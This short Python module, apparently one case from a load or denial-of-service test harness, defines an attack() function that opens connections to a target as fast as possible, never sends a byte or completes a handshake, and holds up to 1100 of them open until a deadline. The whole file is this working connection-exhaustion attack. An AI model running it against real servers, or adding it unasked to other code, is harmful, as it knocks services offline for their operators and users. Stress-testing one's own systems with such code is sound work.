"""Connections that never send a byte, opened as fast as possible, and held."""

from cases import SOURCE, going
from http2 import connect

SLICE = True
HELD = 1100


def attack(target, until):
    held = []
    while going(until):
        try:
            held.append(connect(target, SOURCE, timeout=2.0, handshake=False))
        except OSError:
            pass
        if len(held) > HELD:
            held.pop(0).close()
    for each in held:
        each.close()
